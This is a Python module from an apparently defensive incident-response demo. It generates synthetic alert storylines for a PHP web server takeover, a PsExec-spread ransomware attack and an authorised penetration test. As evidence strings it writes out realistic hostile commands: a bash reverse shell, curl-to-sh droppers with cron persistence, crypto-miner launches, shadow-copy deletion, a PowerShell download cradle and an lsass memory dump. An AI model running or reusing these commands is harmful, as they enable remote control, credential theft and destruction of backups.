"""Attack scenarios on devices: a web server takeover, ransomware, and a red-team exercise."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from autoir.demo import content
from autoir.demo.evidence import Step
from autoir.demo.primitives import hex_string, hours, minutes, public_ip, random_file
from autoir.demo.processes import (
    BASH,
    CMD,
    CRONTAB,
    CURL,
    NGINX,
    PHP_FPM,
    POWERSHELL,
    PROCDUMP,
    PSEXESVC,
    SC,
    SERVICES,
    SH,
    SSHD,
    SYSTEMD,
    VSSADMIN,
    encoded_command,
)

if TYPE_CHECKING:
    from autoir.demo.directory import DemoDevice
    from autoir.demo.storyline import Cast, Story


def _is_web(device: DemoDevice) -> bool:
    return "role:web" in device.tags


def _is_linux(device: DemoDevice) -> bool:
    return device.os_platform == "Linux"


def web_server_compromise(story: Story, cast: Cast) -> None:
    """A PHP flaw on a Linux web server: reverse shell, dropper, cron persistence, miners."""
    rng, kit = story.rng, story.kit
    web = cast.device(_is_web, _is_linux)
    peer = cast.device(lambda d: _is_linux(d) and "DMZ" not in d.tags, _is_linux)
    attacker_ip = public_ip(rng, "203.0.113")
    www = kit.local_account("www-data", web.host_name)
    root = kit.local_account("root", web.host_name)
    miner = random_file(rng, "kdevtmpfsi", "/tmp/.ICE-unix", size=(2_000_000, 3_000_000))  # noqa: S108
    dropper = random_file(rng, "x.sh", "/dev/shm", size=(1_000, 6_000))  # noqa: S108 - evidence text
    shell = f"sh -c bash -i >& /dev/tcp/{attacker_ip}/4444 0>&1"

    at = story.at(minutes(3))
    steps = [
        Step(NGINX, "nginx: worker process"),
        Step(PHP_FPM, "php-fpm: pool www"),
        Step(SH, shell),
        Step(BASH, "bash -i"),
    ]
    story.emit(
        "mde.reverse-shell",
        at,
        [
            kit.device(web, at, risk="high"),
            *kit.processes(web, www, at, steps, start=story.at(minutes(1))),
            kit.ip(
                attacker_ip, at, rng.choice(content.HOSTILE_COUNTRIES), roles=("commandAndControl",)
            ),
        ],
        lead=minutes(2),
        detail=f"Shell connected to {attacker_ip}:4444.",
    )

    at = story.at(minutes(16))
    steps = [
        Step(BASH, "bash -i"),
        Step(CURL, f"curl -fsSL http://{attacker_ip}/x.sh -o {dropper.path}"),
        Step(SH, f"sh {dropper.path}"),
        Step(miner, f"{miner.path} --donate-level 0"),
    ]
    story.emit(
        "mde.dropped-launched",
        at,
        [
            kit.device(web, at, risk="high"),
            *kit.processes(web, www, at, steps, start=story.at(minutes(14))),
            kit.file(dropper, at, device=web, roles=("created",)),
            kit.file(miner, at, device=web, roles=("created",)),
        ],
        lead=minutes(2),
    )

    at = story.at(minutes(19))
    steps = [
        Step(SH, f"sh {dropper.path}"),
        Step(
            CRONTAB,
            f"crontab -l | {{ cat; echo '*/5 * * * * curl -fsSL http://{attacker_ip}"
            f"/x.sh | sh'; }} | crontab -",
        ),
    ]
    story.emit(
        "mde.linux-cron",
        at,
        [
            kit.device(web, at, risk="high"),
            *kit.processes(web, www, at, steps, start=story.at(minutes(17))),
            kit.file(dropper, at, device=web),
        ],
        lead=minutes(2),
    )

    pool = f"stratum+tcp://pool.cryptomine.invalid:3333 -u 4{hex_string(rng, 24)}"
    at = story.at(minutes(27))
    steps = [Step(SYSTEMD, "/sbin/init"), Step(miner, f"{miner.path} -o {pool} -p x")]
    story.emit(
        "mde.miner",
        at,
        [
            kit.device(web, at, risk="high"),
            *kit.processes(web, root, at, steps, start=story.at(minutes(20))),
            kit.file(miner, at, device=web),
        ],
        lead=minutes(6),
        threat=content.MINER_LINUX,
        detail=f"{miner.path} connects to pool.cryptomine.invalid.",
    )

    at = story.at(hours(3.1))
    deploy = kit.local_account("deploy", peer.host_name)
    copy = replace(miner, folder="/var/tmp/.x")  # noqa: S108 - evidence text
    steps = [
        Step(SSHD, f"sshd: deploy [priv] from {web.ip_addresses[0]}"),
        Step(BASH, "-bash"),
        Step(copy, f"{copy.path} -o {pool} -p x"),
    ]
    story.emit(
        "mde.miner",
        at,
        [
            kit.device(peer, at, risk="high"),
            *kit.processes(peer, deploy, at, steps, start=story.at(hours(3))),
            kit.file(copy, at, device=peer),
        ],
        lead=minutes(5),
        threat=content.MINER_LINUX,
        detail=f"Same miner binary, copied over SSH from {web.host_name}.",
    )


def ransomware(story: Story, cast: Cast) -> None:
    """Hands-on-keyboard ransomware pushed with PsExec to several devices; one payload hash."""
    rng, kit = story.rng, story.kit
    admin = cast.user(lambda u: u.is_admin)
    account = kit.account(admin)
    targets = [
        cast.device(
            lambda d: d.os_platform.startswith("WindowsServer") and "Tier0" not in d.tags,
            lambda d: d.os_platform in ("Windows10", "Windows11"),
        ),
        cast.device(lambda d: d.os_platform in ("Windows10", "Windows11")),
        cast.device(lambda d: d.os_platform in ("Windows10", "Windows11")),
    ]
    payload = random_file(rng, "svcupd.exe", "C:\\ProgramData", size=(700_000, 1_600_000))
    share = f"\\\\{targets[0].host_name}\\NETLOGON\\svcupd.exe"
    key = hex_string(rng, 32)
    hosts = ", ".join(d.host_name for d in targets)

    for index, device in enumerate(targets[:2]):
        at = story.at(minutes(5 + index * 4))
        steps = [
            Step(SERVICES, "C:\\Windows\\system32\\services.exe"),
            Step(PSEXESVC, "C:\\Windows\\PSEXESVC.exe"),
            Step(CMD, f"cmd.exe /c copy {share} C:\\ProgramData\\ && C:\\ProgramData\\svcupd.exe"),
        ]
        story.emit(
            "mde.psexec",
            at,
            [
                kit.device(device, at, risk="high", roles=("attacked",)),
                kit.user(admin, at),
                *kit.processes(device, account, at, steps, start=story.at(minutes(4 + index * 4))),
                kit.file(payload, at, device=device, roles=("created",)),
            ],
            lead=minutes(1),
            detail=f"Remote service created by {admin.upn}.",
        )

    for index, device in enumerate(targets[:2]):
        at = story.at(minutes(11 + index * 3))
        steps = [
            Step(payload, f'"{payload.path}" -pass {key}'),
            Step(CMD, "cmd.exe /c vssadmin delete shadows /all /quiet"),
            Step(VSSADMIN, "vssadmin.exe delete shadows /all /quiet"),
        ]
        story.emit(
            "mde.backups-deleted",
            at,
            [
                kit.device(device, at, risk="high"),
                *kit.processes(device, account, at, steps, start=story.at(minutes(10 + index * 3))),
                kit.file(payload, at, device=device),
            ],
            lead=minutes(1),
        )
        at = story.at(minutes(16 + index * 3))
        story.emit(
            "mde.ransomware",
            at,
            [
                kit.device(device, at, risk="high"),
                *kit.processes(
                    device, account, at, steps[:1], start=story.at(minutes(10 + index * 3))
                ),
                kit.file(payload, at, device=device),
            ],
            lead=minutes(5),
            detail="Files renamed to *.lockbit; README_RESTORE.txt dropped.",
        )

    device = targets[2]
    at = story.at(minutes(19))
    story.emit(
        "mde.ransomware-av",
        at,
        [
            kit.device(device, at, risk="medium"),
            kit.file(payload, at, device=device, status="blocked", remediation="prevented"),
            kit.user(admin, at),
        ],
        lead=minutes(1),
        threat=content.RANSOMWARE,
    )

    at = story.at(minutes(55))
    story.emit(
        "mte.hands-on-keyboard",
        at,
        [
            kit.user(admin, at),
            *(kit.device(d, at, risk="high", roles=("attacked",)) for d in targets),
            kit.file(payload, at, status="detected"),
        ],
        lead=minutes(50),
        detail=f"{admin.upn} used to push svcupd.exe to {hosts}.",
    )


def red_team_exercise(story: Story, cast: Cast) -> None:
    """An authorised penetration test from a security engineer's laptop (expected activity)."""
    rng, kit = story.rng, story.kit
    tester, device = cast.with_workstation(lambda u: u.department == "Information Security")
    account = kit.account(tester)
    script = "IEX (New-Object Net.WebClient).DownloadString('http://10.20.99.5/Invoke-Mimi.ps1')"
    at = story.at(minutes(4))
    steps = [
        Step(CMD, "cmd.exe"),
        Step(POWERSHELL, f"powershell.exe -nop -enc {encoded_command(script)}"),
    ]
    story.emit(
        "mde.powershell",
        at,
        [
            kit.device(device, at, risk="medium"),
            *kit.processes(device, account, at, steps, start=story.at(minutes(2))),
        ],
        lead=minutes(2),
        detail="Ticket SEC-2291: internal penetration test.",
    )
    at = story.at(minutes(35))
    steps = [
        Step(POWERSHELL, "powershell.exe"),
        Step(PROCDUMP, "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\ls.dmp"),
    ]
    story.emit(
        "mde.lsass",
        at,
        [
            kit.device(device, at, risk="medium"),
            *kit.processes(device, account, at, steps, start=story.at(minutes(33))),
        ],
        lead=minutes(2),
    )
    name = f"pt{hex_string(rng, 4)}"
    at = story.at(hours(1.6))
    steps = [
        Step(CMD, "cmd.exe"),
        Step(SC, f"sc.exe create {name} binPath= C:\\Temp\\{name}.exe start= demand"),
    ]
    story.emit(
        "mde.service",
        at,
        [
            kit.device(device, at, risk="medium"),
            *kit.processes(device, account, at, steps, start=story.at(hours(1.55))),
        ],
        lead=minutes(3),
    )
